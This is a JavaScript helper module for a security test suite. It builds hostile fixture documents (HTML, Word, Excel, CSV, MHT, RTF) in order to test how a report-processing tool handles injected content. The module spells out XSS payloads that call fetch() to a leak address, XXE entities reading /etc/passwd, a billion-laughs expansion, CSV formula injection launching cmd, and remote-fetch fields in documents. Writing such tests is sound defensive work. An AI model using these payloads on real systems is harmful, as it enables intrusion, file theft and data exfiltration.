// The hostile cases of tests/cases/page-security/, as values; and reports that carry what a case holds.
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { asHtml, asText, escaped, mistypedFigures } from './fixtures.mjs';
import { asDocx, storedZip, unzipped } from './word.mjs';

const folder = path.join(path.dirname(fileURLToPath(import.meta.url)), '../cases/page-security');

/** Runs wherever it is put: no quotes, no angle brackets, no ampersand. In a frame of its own it tells the page around. */
const NOTED = '(self.canary=self.canary||[]).push(1)';
const script = (address) => `${NOTED};parent.postMessage(\`canary\`,\`*\`);fetch(\`${address}\`,{mode:\`no-cors\`})`;

/** The notation of the cases. `address` is where a leak would go; null: a name, which can hold no slash. */
export function written(text, address) {
  return text.replace(/⟨([0-9A-F]{1,5})⟩/g, (_, code) => String.fromCodePoint(parseInt(code, 16)))
    .replace(/⟨([^⟨⟩]+)×(\d+)⟩/g, (_, what, times) => what.repeat(Number(times)))
    .replace(/⏎/g, '\n').replace(/⇥/g, '\t').replace(/␣/g, '\u00a0')
    .split('{脚本}').join(address === null ? NOTED : script(address)).split('{网址}').join(address);
}

/** `{heading, keys: [[name, value]], fence}` for every `## ` of a file. */
export function cases(file) {
  const text = fs.readFileSync(path.join(folder, `${file}.md`), 'utf8');
  return text.split(/^## /m).slice(1).map((part) => {
    const fence = /^```\w*\n([\s\S]*?)^```/m.exec(part);
    const keys = Array.from(part.matchAll(/^- ([^：\n]+)：(.*)$/gm), ([, name, value]) => [name, value.trim().replace(/^`(.*)`$/, '$1')]);
    return { heading: part.split('\n')[0].trim(), keys, fence: fence ? fence[1].trimEnd() : null };
  });
}

/** The rows of the table in a file, without its head. */
export function rows(file) {
  const lines = fs.readFileSync(path.join(folder, `${file}.md`), 'utf8').split('\n').filter((line) => line.startsWith('| `'));
  return lines.map((line) => line.split('` | `').map((cell) => written(cell.replace(/^\| `|` \|$/g, '').replace(/\\\|/g, '|'), '')));
}

export const of = ({ keys }, name) => keys.filter(([key]) => key === name).map(([, value]) => value);
export const FILES = fs.readdirSync(folder).filter((name) => name.endsWith('.md')).map((name) => name.replace('.md', '')).sort();
export const count = FILES.reduce((sum, file) => sum + Math.max(1, cases(file).length), 0);

// ---- reports -------------------------------------------------------------------------------------------------

const REPORT = asHtml(mistypedFigures());
const [BEFORE, TABLE] = [REPORT.slice(0, REPORT.indexOf('<table')), REPORT.slice(REPORT.indexOf('<table'))];
/** The last cell: 四、结转下年度继续办理·总计. */
const LAST = /(<td rowspan="1" colspan="1">)\d+<\/td><\/tr><\/table>$/;

/** The markup as it is, all around and inside. */
export function withMarkup(markup) {
  const table = TABLE.replace('（一）予以公开</td>', `（一）予以公开${markup}</td>`).replace('>17<', `>17${markup}<`);
  return `${markup}<p>正文${markup}</p>${BEFORE.replace('</h1>', `${markup}</h1>`)}${table}<p>之后${markup}</p>`;
}

/** As text: in a paragraph, in a sentence with a figure that is wrong, in a cell, in a row below the table. */
export function withText(text, { short = excerpt(text), body = '临江市', year = '2023' } = {}) {
  const row = `<tr><td colspan="10">${escaped(text)}</td></tr>`;
  const prose = `<p>${escaped(text)}</p><p>${year}年，${escaped(short)}全市共收到政府信息公开申请35件。</p>`;
  const table = TABLE.replace(LAST, (_, cell) => `${cell}${escaped(short)}</td></tr>${row}</table>`);
  return `<meta charset="utf-8">${BEFORE.split('临江市').join(escaped(body)).split('2023').join(year).replace('<p>三、', `${prose}<p>三、`)}${table}`;
}

/** A piece without figures and full stops: what a cell or a sentence can hold. */
export const excerpt = (text) => text.split('\n')[0].replace(/[\d。；;.\u0000-\u001f]/g, '').slice(0, 60);

// ---- files ---------------------------------------------------------------------------------------------------

const CODE = '<img src=x onerror={脚本}><script src={网址}></script>';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A Word document whose parts are changed: `change(parts)`. */
function word(change) {
  const parts = unzipped(asDocx(mistypedFigures()));
  change(parts);
  return storedZip(parts);
}

const paragraph = (text) => `<w:p><w:r><w:t xml:space="preserve">${escaped(text)}</w:t></w:r></w:p>`;
const before = (parts, xml) => { parts['word/document.xml'] = parts['word/document.xml'].replace('<w:body>', `<w:body>${xml}`); };

/** By the name of a way (`做法`): the name of the file, its bytes, and whether the code is shown as text. */
export const WAYS = {
  'docx 正文': (address) => {
    const code = written(CODE, address);
    return ['年报.docx', word((parts) => {
      before(parts, paragraph(code));
      parts['word/document.xml'] = parts['word/document.xml'].replace('</w:tbl>', `<w:tr><w:tc><w:tcPr><w:gridSpan w:val="10"/></w:tcPr>${paragraph(code)}</w:tc></w:tr></w:tbl>`);
    }), code];
  },
  'docx 属性': (address) => ['年报.docx', word((parts) => {
    const code = escaped(written(CODE, address)).replace(/"/g, '&quot;');
    parts['docProps/core.xml'] = `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${code}</dc:title><dc:creator>${code}</dc:creator></cp:coreProperties>`;
    parts['word/_rels/document.xml.rels'] = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x1" Type="${OFFICE}/attachedTemplate" Target="${address}" TargetMode="External"/><Relationship Id="x2" Type="${OFFICE}/image" Target="${address}" TargetMode="External"/><Relationship Id="x3" Type="${OFFICE}/aFChunk" Target="/word/chunk.html"/><Relationship Id="x4" Type="${OFFICE}/hyperlink" Target="javascript:${NOTED}" TargetMode="External"/></Relationships>`;
    parts['word/chunk.html'] = written(CODE, address);
    before(parts, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "${address}" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>图</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
      + `<w:p><w:hyperlink xmlns:r="${OFFICE}" r:id="x4"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p><w:altChunk xmlns:r="${OFFICE}" r:id="x3"/>`);
  }), null],
  'docx 实体': (address) => ['年报.docx', word((parts) => {
    const levels = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
    parts['word/document.xml'] = parts['word/document.xml'].replace(/(<\?xml[^>]*\?>)?/, `$1<!DOCTYPE x SYSTEM "${address}" [<!ENTITY out SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "${address}"><!ENTITY l0 "哈哈">${levels}]>`);
    before(parts, '<w:p><w:r><w:t>&out;&net;&l12;</w:t></w:r></w:p>');
  }), null],
  xlsx: (address) => {
    const code = written(CODE, address);
    const quoted = escaped(code).replace(/"/g, '&quot;');
    const cell = (at, text) => `<c r="${at}" t="inlineStr"><is><t>${escaped(text)}</t></is></c>`;
    const lines = asText(mistypedFigures()).trim().split('\n').map((line) => line.split('\t'));
    const data = lines.map((line, row) => `<row r="${row + 2}">${line.map((text, col) => cell(`${String.fromCharCode(65 + col)}${row + 2}`, text)).join('')}</row>`).join('');
    return ['年报.xlsx', storedZip({
      '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>',
      '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      'xl/workbook.xml': `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets><sheet name="${quoted}" sheetId="1" r:id="s1"/></sheets><externalReferences/></workbook>`,
      'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="s2" Type="${OFFICE}/externalLink" Target="${address}" TargetMode="External"/></Relationships>`,
      'xl/worksheets/sheet1.xml': `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${data}<row r="60">${cell('A60', code)}<c r="B60" t="str"><f>HYPERLINK("${address}","点")</f><v>点</v></c><c r="C60"><f>WEBSERVICE("${address}")</f></c></row></sheetData><hyperlinks><hyperlink ref="A60" location="${quoted}"/></hyperlinks></worksheet>`,
    }), code];
  },
  csv: (address) => {
    const code = written(CODE, address);
    return ['年报.csv', Buffer.from(`临江市2023年政府信息公开工作年度报告\r\n"${code.replace(/"/g, '""')}","=cmd|' /C calc'!A0"\r\n`), null];
  },
  mht: (address) => {
    const part = (name, type, text) => `--X\r\nContent-Type: ${type}; charset="utf-8"\r\nContent-Location: ${name}\r\nContent-ID: <${name}>\r\n\r\n${text}\r\n`;
    const html = withMarkup(written(`${CODE}<iframe src="cid:b"></iframe><iframe src="file:///b.html"></iframe>`, address));
    return ['年报.mht', Buffer.from(`MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="X"; type="text/html"\r\n\r\n${part('file:///a.html', 'text/html', html)}${part('b', 'text/html', written(CODE, address))}${part('c.js', 'text/javascript', NOTED)}--X--\r\n`), null];
  },
  'html 字符集': (address) => ['年报.html', Buffer.concat([Buffer.from('\ufeff'), Buffer.from(withMarkup(written(`<meta charset="utf-7"><meta http-equiv="content-type" content="text/html;charset=iso-2022-jp">+ADw-script+AD4-{脚本}+ADw-/script+AD4-⟨1B⟩$B${CODE}⟨1B⟩(B`, address)))]), null],
  rtf: (address) => {
    const code = written(CODE, address);
    return ['年报.rtf', Buffer.from(`{\\rtf1\\ansi\\deff0{\\field{\\*\\fldinst HYPERLINK "javascript:${NOTED}"}{\\fldrslt link}}{\\field{\\*\\fldinst INCLUDETEXT "${address}"}{\\fldrslt x}}{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata 0105}}{\\*\\template ${address}}${code.replace(/[\\{}]/g, '\\$&')}\\par ${'text '.repeat(20)}}`), null];
  },
};
